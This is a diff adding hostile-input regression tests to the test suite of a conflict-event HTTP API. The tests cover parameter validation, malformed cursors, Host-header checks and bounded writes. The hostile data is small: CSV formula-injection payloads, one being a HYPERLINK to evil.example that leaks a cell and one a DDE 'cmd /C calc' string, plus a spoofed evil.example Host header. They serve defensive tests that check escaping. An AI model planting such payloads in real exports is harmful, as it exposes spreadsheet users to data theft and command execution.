@@ -11,6 +11,7 @@ import json
 import os
 import subprocess
 from pathlib import Path
+from urllib.parse import quote
 
 import httpx
 import jsonschema
@@ -208,7 +209,7 @@ def test_stats_sum_what_the_list_returns(api):
         ({"date_from": "2024-05-09", "date_to": "2024-05-01"}, "date_from 2024-05-09 is after date_to 2024-05-01"),
         ({"min_fatalities": "many"}, "min_fatalities: 'many' is not a whole number"),
         ({"limit": "0"}, "limit: Input should be greater than or equal to 1"),
-        ({"cursor": "garbage!"}, "cursor: not a cursor this server gave"),
+        ({"cursor": "garbage!"}, "cursor: invalid cursor"),
         ({"contry": "KE"}, "contry: unknown parameter"),
     ],
 )
@@ -390,3 +391,333 @@ def test_tile_layer_is_announced_and_allowed_by_the_policy(corpus_db):
         assert config["tiles"] == {"url": tiles, "attribution": "© Example", "max_zoom": 19}
         page = httpx.get(s.url + "/")
         assert "img-src 'self' data: https://*.tile.example.org;" in page.headers["content-security-policy"]
+
+
+# --------------------------------------------------------------------------- hostile input
+# Each test below is the smallest reproducer of one finding of the "HTTP API under hostile
+# input" issue (docs/reliability.md has the table of inputs and answers).
+
+INT64_MAX = 2**63 - 1
+HOSTILE_SOURCES = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0")
+HOSTILE_ARTICLES = [
+    {"id": "hostile-link", "url": "https://example.org/hostile/link", "source": HOSTILE_SOURCES[0], "published": "2024-06-03",
+     "title": "Gunmen kill three villagers near Mopti",
+     "text": "Gunmen killed three villagers near Mopti in central Mali on Sunday, local officials said."},
+    {"id": "hostile-sum", "url": "https://example.org/hostile/sum", "source": HOSTILE_SOURCES[1], "published": "2024-06-04",
+     "title": "Two police officers killed near Garissa",
+     "text": "Two police officers were killed on Monday when militants attacked a checkpoint near Garissa in Kenya, police said."},
+]
+
+
+def raw_get(url: str, target: str, host: str | None = None) -> tuple[int, dict[str, str], bytes]:
+    """One HTTP/1.1 GET over a plain socket: any Host header, any length of target."""
+    import socket
+    from urllib.parse import urlsplit
+
+    parts = urlsplit(url)
+    host = host if host is not None else parts.netloc
+    with socket.create_connection((parts.hostname, parts.port), timeout=60) as sock:
+        sock.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
+        data = b""
+        while chunk := sock.recv(65536):
+            data += chunk
+    head, _, body = data.partition(b"\r\n\r\n")
+    lines = head.decode("latin-1").split("\r\n")
+    headers = {k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:])}
+    if headers.get("transfer-encoding") == "chunked":
+        out, rest = b"", body
+        while rest:
+            size, _, rest = rest.partition(b"\r\n")
+            n = int(size, 16)
+            if n == 0:
+                break
+            out, rest = out + rest[:n], rest[n + 2 :]
+        body = out
+    return int(lines[0].split()[1]), headers, body
+
+
+def synthetic_store(path: Path, n: int, **overrides_by_index: dict) -> Path:
+    """A migrated store holding ``n`` events written straight into the table (no pipeline):
+    event i is dated 2024-01-01 + i % 300 days, with 1 fatality, unless ``overrides_by_index``
+    (``e<i>=dict(...)``) says otherwise."""
+    import sqlite3
+
+    done = run_cli("db", "upgrade", "--db", str(path))
+    assert done.returncode == 0, done.stderr
+    rows = []
+    for i in range(n):
+        day = 1 + i % 300
+        row = {"id": f"ev_{i:016x}", "event_type": "Battles", "sub_event_type": "Armed clash",
+               "event_date": f"2024-{(day - 1) // 28 % 12 + 1:02d}-{(day - 1) % 28 + 1:02d}", "background": 0,
+               "country": "Mali", "country_code": "ML", "location": f"Place {i}", "latitude": 14.5, "longitude": -3.5,
+               "fatalities": 1, "n_mentions": 1, "n_articles": 1, "updated_at": "2024-06-01 00:00:00.000000"}
+        row.update(overrides_by_index.get(f"e{i}", {}))
+        rows.append(row)
+    with sqlite3.connect(path) as conn:
+        columns = list(dict.fromkeys(c for r in rows for c in r))
+        conn.executemany(f"INSERT INTO events ({', '.join(columns)}) VALUES ({', '.join('?' * len(columns))})",
+                         [tuple(r.get(c) for c in columns) for r in rows])
+    return path
+
+
+@pytest.fixture(scope="module")
+def synthetic(tmp_path_factory):
+    """1,201 events (more than 200, and more than two of the CSV's 500-row chunks), two of
+    them with absurd 9x10^18 tolls, one undated, one whose location holds a carriage return;
+    served with --allow-host dashboard.example."""
+    db = synthetic_store(
+        tmp_path_factory.mktemp("api-synthetic") / "synthetic.db", 1201,
+        e3={"fatalities": 9 * 10**18}, e4={"fatalities": 9 * 10**18}, e7={"event_date": None},
+        e8={"location": "Upper\rLower", "actor1": "-Group of 3"},
+    )
+    with ServerProcess(db, "--allow-host", "dashboard.example") as s:
+        yield s
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory) -> Path:
+    """The bundled corpus plus two articles whose outlet name is a spreadsheet formula."""
+    folder = tmp_path_factory.mktemp("api-hostile")
+    extra = folder / "hostile.jsonl"
+    extra.write_text("".join(json.dumps(a) + "\n" for a in HOSTILE_ARTICLES))
+    db = folder / "hostile.db"
+    done = run_cli("ingest", str(CORPUS), str(extra), "--db", str(db), "-q")
+    assert done.returncode == 0, done.stderr
+    return db
+
+
+def test_stats_never_overflow_on_absurd_tolls(synthetic):
+    """Finding 1: two stored tolls of 9x10^18 made /api/stats a 503 'integer overflow'."""
+    got = httpx.get(synthetic.url + "/api/stats", timeout=60)
+    assert got.status_code == 200, got.text
+    stats = got.json()
+    assert stats["events"] == 1201
+    assert stats["fatalities"] == INT64_MAX  # 1.8e19 + 1,199: capped at the 64-bit maximum
+    [mali] = stats["by_country"]
+    assert mali["fatalities"] == INT64_MAX and mali["events"] == 1201
+    assert all(0 <= d["fatalities"] <= INT64_MAX for d in stats["by_day"])
+    normal = httpx.get(synthetic.url + "/api/stats", params={"date_from": "2024-06-01"}, timeout=60).json()
+    events = all_pages(httpx.Client(base_url=synthetic.url, timeout=60), "/api/events", "events", limit=5000,
+                       date_from="2024-06-01")
+    assert normal["fatalities"] == sum(e["fatalities"] for e in events) < 2**53  # exact below the cap
+
+
+def test_csv_streams_every_matching_row(synthetic):
+    """Finding 3: /api/events.csv must hold every matching event (not the first 200), each row whole."""
+    with httpx.Client(base_url=synthetic.url, timeout=120) as client:
+        got = client.get("/api/events.csv")
+        assert got.status_code == 200
+        rows = list(csv.DictReader(io.StringIO(got.text, newline="")))
+        listed = all_pages(client, "/api/events", "events", limit=5000)
+    assert len(listed) == 1201
+    assert [r["event_id_cnty"] for r in rows] == [e["id"] for e in listed]
+    odd = next(r for r in rows if r["event_id_cnty"] == "ev_0000000000000008")
+    assert odd["location"] == "Upper\nLower"  # a carriage return does not split the row
+    assert odd["actor1"] == "'-Group of 3"
+    assert all(r["longitude"] == "-3.5" for r in rows)  # numbers stay numbers
+
+
+@pytest.mark.parametrize(
+    "params, words",
+    [
+        ({"min_fatalities": str(2**63)}, "min_fatalities: Input should be less than or equal to 9223372036854775807"),
+        ({"min_fatalities": "9" * 5000}, "min_fatalities: '99999999999999999999"),
+        ({"min_fatalities": "-1"}, "min_fatalities: Input should be greater than or equal to 0"),
+        ({"limit": "5001"}, "limit: Input should be less than or equal to 5000"),
+        ({"limit": str(2**64)}, "limit: Input should be less than or equal to 5000"),
+        ({"text": "x" * 201}, "text: text filter longer than 200 characters"),
+        ({"country": "K" * 201}, "country: country filter longer than 200 characters"),
+        ({"admin1": "a" * 201}, "admin1: admin1 filter longer than 200 characters"),
+        ({"type": "t" * 201}, "type: type filter longer than 200 characters"),
+        ({"bbox": "1," * 150 + "1"}, "bbox: bbox filter longer than 200 characters"),
+        ({"bbox": "nan,0,1,1"}, "bbox: 'nan,0,1,1': the four numbers must be finite"),
+        ({"bbox": "0,0,1,1e999"}, "the four numbers must be finite"),
+        ({"bbox": "0,-91,1,1"}, "min_lat -91 is out of range"),
+        ({"date_from": "0001-01-01"}, "date_from: 0001-01-01 is out of range (1800-01-01 to 2199-12-31)"),
+        ({"date_to": "9999-12-31"}, "date_to: 9999-12-31 is out of range (1800-01-01 to 2199-12-31)"),
+        ({"date_from": "0"}, "date_from: '0' is not a date (YYYY-MM-DD)"),
+        ({"date_to": "2024-05-01T00:00:00"}, "date_to: '2024-05-01T00:00:00' is not a date (YYYY-MM-DD)"),
+        ({"date_from": "2024-02-30"}, "date_from: '2024-02-30' is not a date (YYYY-MM-DD)"),
+        ({"current_only": "perhaps"}, "current_only: 'perhaps' is not true or false"),
+    ],
+)
+def test_every_parameter_is_validated_to_a_422(api, params, words):
+    """Finding 2: a parameter out of the store's range, an absurd date, an unbounded filter:
+    422 with a one-line message, never a 500 or 503."""
+    paths = ("/api/events",) if "limit" in params else ("/api/events", "/api/events.geojson", "/api/events.csv", "/api/stats")
+    for path in paths:
+        got = api.get(path, params=params)
+        assert got.status_code == 422, (path, got.status_code, got.text[:300])
+        body = got.json()
+        assert words in body["message"], body["message"]
+        assert "\n" not in body["message"] and len(body["message"]) < 400
+
+
+def test_a_100000_character_text_filter_is_a_422_not_a_database_failure(server):
+    """Finding 2: a 100,000-character text filter was 'the database is unavailable' (503)."""
+    for path in ("/api/events", "/api/stats", "/api/events.csv"):
+        status, _, body = raw_get(server.url, f"{path}?text={'x' * 100_000}")
+        assert status == 422, (path, status, body[:200])
+        message = json.loads(body)["message"]
+        assert message == "text: text filter longer than 200 characters"
+
+
+def test_limits_at_the_edges_are_answered(api):
+    """The largest accepted values are served, not failed on."""
+    for params in ({"min_fatalities": str(INT64_MAX)}, {"limit": "5000"}, {"text": "x" * 200},
+                   {"date_from": "1800-01-01", "date_to": "2199-12-31"}, {"text": "%"}, {"text": "_"}):
+        got = api.get("/api/events", params=params)
+        assert got.status_code == 200, (params, got.text[:300])
+        assert api.get("/api/stats", params={k: v for k, v in params.items() if k != "limit"}).status_code == 200
+    assert api.get("/api/events", params={"min_fatalities": str(INT64_MAX)}).json()["events"] == []
+    # 'substring' means substring: % and _ are not wildcards
+    assert api.get("/api/events", params={"text": "%"}).json()["events"] == []
+    assert api.get("/api/events", params={"text": "_"}).json()["events"] == []
+
+
+def _cursor(payload: bytes) -> str:
+    import base64
+
+    return base64.urlsafe_b64encode(payload).decode().rstrip("=")
+
+
+@pytest.mark.parametrize(
+    "cursor",
+    [
+        _cursor(b"[" * 5_000),  # nested past Python's recursion limit: was a 500 RecursionError
+        _cursor(b"[" * 2_000 + b"]" * 2_000),
+        _cursor(json.dumps({"2024-05-01": 1, "ev_1": 2}).encode()),
+        _cursor(json.dumps(["2024-05-01", 7]).encode()),
+        _cursor(json.dumps(["2024-05-01", "ev_1", "more"]).encode()),
+        _cursor(json.dumps([20240501, "ev_1"]).encode()),
+        _cursor(json.dumps(["2024-13-01", "ev_1"]).encode()),
+        _cursor(json.dumps(["2024-05-01", "x" * 300]).encode()),
+        _cursor(b"\xff\xfe"),
+        "A" * 300,
+        "not base64!",
+    ],
+)
+def test_cursors_are_validated(server, cursor):
+    """Finding 4: a deeply nested cursor gave a 500 RecursionError; every malformed cursor is
+    a 422 'invalid cursor'."""
+    for path in ("/api/events", "/api/events.geojson"):
+        status, _, body = raw_get(server.url, f"{path}?cursor={quote(cursor)}")
+        assert status == 422, (path, status, body[:200])
+        assert json.loads(body)["message"].startswith("cursor: invalid cursor"), body[:200]
+
+
+def test_csv_cells_cannot_be_spreadsheet_formulas(hostile_db):
+    """Finding 5: a source cell starting '=HYPERLINK(' or '@SUM(' is a formula in a spreadsheet."""
+    with ServerProcess(hostile_db) as s:
+        got = httpx.get(s.url + "/api/events.csv", timeout=60)
+    assert got.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(got.text, newline="")))
+    sources = [r["source"] for r in rows]
+    for outlet in HOSTILE_SOURCES:
+        assert any(cell.startswith("'" + outlet) for cell in sources), (outlet, sources)
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
+            if cell.startswith("-"):
+                float(cell)  # only numbers (longitudes) may start with a minus
+    assert any(float(r["longitude"]) < 0 for r in rows if r["longitude"])
+    cli = run_cli("events", "--db", str(hostile_db), "--format", "csv")
+    assert cli.returncode == 0, cli.stderr
+    assert cli.stdout == got.text  # the CLI writes the very same cells
+    export = run_cli("export", "--db", str(hostile_db), "--format", "acled-csv")
+    assert export.returncode == 0, export.stderr
+    assert export.stdout == got.text
+    extract = run_cli("extract", str(hostile_db.with_name("hostile.jsonl")), "--format", "acled-csv")
+    assert extract.returncode == 0, extract.stderr
+    extracted = list(csv.DictReader(io.StringIO(extract.stdout, newline="")))
+    assert sorted(r["source"] for r in extracted) == sorted("'" + o for o in HOSTILE_SOURCES)
+    assert any(float(r["longitude"]) < 0 for r in extracted if r["longitude"])  # Mopti: still a number
+
+
+def test_host_header_is_checked(server, synthetic):
+    """Finding 6: a server on 127.0.0.1 answered any Host (readable through DNS rebinding)."""
+    port = server.url.rsplit(":", 1)[1]
+    status, headers, body = raw_get(server.url, "/api/events", host="evil.example")
+    assert status == 400 and headers["content-type"].startswith("application/json")
+    assert "evil.example" in json.loads(body)["message"] and "--allow-host" in json.loads(body)["message"]
+    assert raw_get(server.url, "/", host=f"evil.example:{port}")[0] == 400
+    for host in (f"127.0.0.1:{port}", f"localhost:{port}", "localhost", f"[::1]:{port}", "LOCALHOST"):
+        assert raw_get(server.url, "/api/health", host=host)[0] == 200, host
+    # --allow-host adds a name (any port); the defaults stay
+    assert raw_get(synthetic.url, "/api/health", host="dashboard.example:8443")[0] == 200
+    assert raw_get(synthetic.url, "/api/health", host="localhost")[0] == 200
+    assert raw_get(synthetic.url, "/api/health", host="evil.example")[0] == 400
+
+
+def test_bad_allow_host_is_a_usage_error(tmp_path):
+    for value, words in (("http://x.example", "--allow-host 'http://x.example'"), ("a.*.example", "--allow-host 'a.*.example'")):
+        done = run_cli("serve", "--db", str(tmp_path / "x.db"), "--port", "0", "--allow-host", value)
+        assert done.returncode == 2, done.stderr
+        assert words in done.stderr and "Traceback" not in done.stderr
+
+
+def test_every_error_is_one_json_body_with_a_message(api, server):
+    """Finding 8: 404, 403, 422 and the Host 400 all answer JSON with a one-line message."""
+    answers = [
+        api.get("/api/events/ev_0000000000000000"),
+        api.get("/api/articles/" + "a" * 300),
+        api.post("/api/articles", json=ARTICLE),
+        api.get("/api/events", params={"limit": "many"}),
+        api.get("/api/nothing-here"),
+    ]
+    for got in answers:
+        body = got.json()
+        assert got.status_code >= 400 and isinstance(body["message"], str) and body["message"], got.text
+        assert "\n" not in body["message"] and "Traceback" not in got.text
+    status, _, body = raw_get(server.url, "/api/events", host="evil.example")
+    assert status == 400 and json.loads(body)["message"]
+
+
+def many_articles(n: int) -> str:
+    towns = ["Kismayo", "Mandera", "Garissa", "Lamu", "Maiduguri", "Konduga", "Gao", "Mopti", "Baidoa", "Wajir"]
+    lines = []
+    for i in range(n):
+        town = towns[i % len(towns)]
+        lines.append(json.dumps({
+            "id": f"queue-{i}", "published": f"2024-0{1 + i % 9}-{1 + i % 28:02d}",
+            "text": f"Militants attacked an army base near {town} on Friday, killing {2 + i % 9} soldiers and wounding "
+                    f"{1 + i % 7} others, a military official said (report {i}). The attackers fled after a gun battle.",
+        }))
+    return "\n".join(lines) + "\n"
+
+
+def test_writes_queue_is_bounded_and_reads_go_on(tmp_path):
+    """Finding 7: one slow POST made every other writer wait (and held a thread each). With
+    --write-queue 1 and a large batch being extracted, the next POST is a 429 with
+    Retry-After at once, and reads still answer."""
+    import threading
+    import time
+
+    auth = {"Authorization": f"Bearer {TOKEN}"}
+    with ServerProcess(tmp_path / "q.db", "--allow-writes", "--write-queue", "1", env={"CLASHWATCH_API_TOKEN": TOKEN}) as s:
+        outcome: dict = {}
+
+        def big_batch():
+            outcome["response"] = httpx.post(s.url + "/api/articles", content=many_articles(150), timeout=600,
+                                             headers={**auth, "Content-Type": "application/x-ndjson"})
+
+        writer = threading.Thread(target=big_batch)
+        writer.start()
+        time.sleep(1.0)
+        assert writer.is_alive(), "the batch should take a while to extract"
+        started = time.monotonic()
+        busy = httpx.post(s.url + "/api/articles", json=ARTICLE, headers=auth, timeout=5)
+        assert busy.status_code == 429, busy.text
+        assert 1 <= int(busy.headers["retry-after"]) <= 60
+        assert "--write-queue" in busy.json()["message"]
+        reads = [httpx.get(s.url + "/api/events", timeout=10), httpx.get(s.url + "/api/stats", timeout=10),
+                 httpx.get(s.url + "/api/health", timeout=10)]
+        assert all(r.status_code == 200 for r in reads)
+        assert time.monotonic() - started < 5, "reads should not wait for the write"
+        assert writer.is_alive(), "the 429 and the reads came while the batch was in flight"
+        writer.join(timeout=600)
+        report = outcome["response"]
+        assert report.status_code == 200, report.text
+        assert report.json()["new"] == 150
+        after = httpx.post(s.url + "/api/articles", json=ARTICLE, headers=auth, timeout=120)
+        assert after.status_code == 200 and after.json()["new"] == 1
